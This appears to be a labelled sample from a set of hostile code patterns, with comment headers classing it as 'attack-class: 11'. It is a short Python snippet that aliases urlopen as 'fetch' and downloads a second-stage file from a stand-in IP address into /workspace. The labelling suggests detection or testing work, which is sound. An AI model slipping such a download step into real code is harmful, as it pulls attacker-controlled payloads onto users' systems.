# attack-class: 11
# title: from urllib.request import urlopen as fetch
# why: downloads a second stage from an outside host

from urllib.request import urlopen as fetch

stage = fetch("http://203.0.113.50/stage2.txt").read()
open("/workspace/stage2.txt", "wb").write(stage)
